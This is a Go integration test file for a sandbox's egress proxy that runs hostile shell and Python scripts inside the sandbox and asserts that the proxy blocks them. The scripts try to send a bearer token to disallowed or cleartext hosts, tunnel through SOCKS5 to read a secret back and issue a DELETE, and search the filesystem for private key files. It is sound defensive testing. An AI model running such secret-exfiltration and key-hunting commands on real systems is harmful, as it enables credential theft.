package integration

// Attacks on the egress proxy from inside a real sandbox (srt-mcp exec):
// the tools the code has (curl), the proxy variables the runner sets.

import (
	"encoding/base64"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
)

// TestHostileEgressSOCKSIsOpaque: network.refuseOpaqueTunnels and request
// rules on the injection host, a masked token. The code stores the token
// at the host through the terminated HTTPS proxy (a body swap), then, with
// curl --proxy "$ALL_PROXY" (the SOCKS5 listener every run has), reads it
// back over its own end-to-end TLS and sends a request no rule allows.
func TestHostileEgressSOCKSIsOpaque(t *testing.T) {
	parallel(t)
	nwRequire(t, "curl")
	var mu sync.Mutex
	var stored string
	var methods []string
	up := egStart(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		methods = append(methods, r.Method+" "+r.URL.Path)
		if r.Method == "POST" {
			b, _ := io.ReadAll(r.Body)
			stored = string(b)
			io.WriteString(w, "stored")
			return
		}
		if r.Method == "GET" && r.URL.Path == "/paste" {
			io.WriteString(w, stored)
			return
		}
		io.WriteString(w, "done: "+r.Method)
	}))
	cwd := sbDir(t)
	host := "api.example.com:" + up.port
	settings := egSettings(t, cwd, up, []string{"api.example.com"}, map[string]any{
		"_injectBody":         true, // the operator lets the value go into bodies: the worst case
		"refuseOpaqueTunnels": true,
		"requestRules":        []any{map[string]any{"host": "api.example.com", "methods": []string{"GET", "POST"}, "paths": []string{"/paste"}}},
	})
	flags := append(pinned("api.example.com"), "--allow-domain", host, "--settings", settings)
	script := `curl -sS -X POST --data "note: $EG_TOKEN" https://` + host + `/paste; echo
echo "socks-read: $(curl -sS --proxy "$ALL_PROXY" https://` + host + `/paste | base64 -w0)"
curl -sS --proxy "$ALL_PROXY" -X DELETE https://` + host + `/admin/everything; echo`
	r := egRun(t, cwd, flags, "sh", "-c", script)
	if !strings.Contains(r.stdout, "stored") || !strings.Contains(stored, egSecret) {
		t.Fatalf("setup: the body swap did not store the token: code %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	for _, line := range strings.Split(r.stdout, "\n") {
		if v, ok := strings.CutPrefix(line, "socks-read: "); ok {
			if b, _ := base64.StdEncoding.DecodeString(v); strings.Contains(string(b), egSecret) {
				t.Errorf("refuseOpaqueTunnels is on, yet the code read the real token back through SOCKS5: %q", b)
			}
		}
	}
	mu.Lock()
	defer mu.Unlock()
	for _, m := range methods {
		if strings.HasPrefix(m, "DELETE") {
			t.Errorf("request rules allow GET/POST /paste only; %s reached the upstream through SOCKS5", m)
		}
	}
}

// TestHostileEgressFromInside runs the attacks on the terminating
// proxy from a real sandbox, with the tools inside: a CONNECT to a denied
// name, the stand-in sent to a host outside its injectHosts and over
// cleartext to its own host, SOCKS to the injection host, a request that
// never finishes its handshake, and a search of the sandbox's whole view
// for a private key. The upstream must never get the value, and nothing
// the sandbox prints may carry it (egRun checks every byte and event).
func TestHostileEgressFromInside(t *testing.T) {
	parallel(t)
	nwRequire(t, "curl")
	up := egStart(t, nil)
	plain := nwStart(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "plain-auth="+r.Header.Get("Authorization"))
	}), false)
	cwd := sbDir(t)
	settings := egSettings(t, cwd, up, []string{"api.example.com"}, map[string]any{
		"deniedDomains":       []string{"denied.example.com"},
		"deniedDomainReasons": map[string]string{"denied.example.com": "denied for the test; use api.example.com"},
	})
	flags := append(pinned("api.example.com", "other.example.com", "denied.example.com"), "--settings", settings,
		"--allow-domain", "api.example.com", "--allow-domain", "other.example.com", "--allow-domain", "denied.example.com",
		"--allow-read", "/run", "--allow-read", "/var", "--allow-read", "/opt", "--allow-read", "/srv")
	script := `
a="Authorization: Bearer $EG_TOKEN"
echo "denied: $(curl -s -o /dev/null -w '%{http_connect}' https://denied.example.com:` + up.port + `/echo; echo " rc=$?")"
echo "other: $(curl -sS -H "$a" https://other.example.com:` + up.port + `/echo)"
echo "cleartext: $(curl -sS -H "$a" http://api.example.com:` + plain.port + `/)"
echo "socks: $(curl -sS -x "$ALL_PROXY" -H "$a" https://api.example.com:` + up.port + `/echo 2>&1; echo " rc=$?")"
timeout 15 python3 - <<'PY'
import socket, os, urllib.parse
u = urllib.parse.urlparse(os.environ["HTTPS_PROXY"])
s = socket.create_connection((u.hostname, u.port))
s.sendall(b"CONNECT api.example.com:` + up.port + ` HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Basic " +
    __import__("base64").b64encode((u.username + ":" + u.password).encode()) + b"\r\n\r\n")
s.recv(1024)
s.settimeout(13)
try:
    print("silent tunnel closed by the proxy:", s.recv(1) == b"")
except Exception as e:
    print("silent tunnel still open:", e)
PY
find /run /var /tmp /root /home /srv /opt /etc "$HOME" -xdev -type f -size -64k -readable -print 2>/dev/null | head -20000 | xargs -r grep -l "PRIVATE KEY" 2>/dev/null | head -3 | sed 's/^/key file: /'
true`
	r := egRun(t, cwd, append(flags, "--timeout", "120s"), "sh", "-c", script)
	out := r.stdout
	for _, want := range []string{"denied: 403", "other: echo GET /echo auth=[Bearer srtmcp_masked_", "cleartext: plain-auth=Bearer srtmcp_masked_", "silent tunnel closed by the proxy: True"} {
		if !strings.Contains(out, want) {
			t.Errorf("want %q in:\n%s\n%s", want, out, r.stderr)
		}
	}
	if !strings.Contains(out, "socks: ") || strings.Contains(out, "socks: echo") {
		t.Errorf("SOCKS to the injection host must be refused:\n%s", out)
	}
	if strings.Contains(out, "key file:") {
		t.Errorf("a private key is in the sandbox's view:\n%s", out)
	}
	if up.sawSecret() {
		t.Error("the value left the proxy towards a host outside its injectHosts, or in cleartext")
	}
	reason := false
	for _, e := range r.events {
		if v, ok := e["violation"].(map[string]any); ok && v["reason"] == "denied for the test; use api.example.com" {
			reason = true
		}
	}
	if !reason {
		t.Error("the deny reason is not on the refusal's event")
	}
}
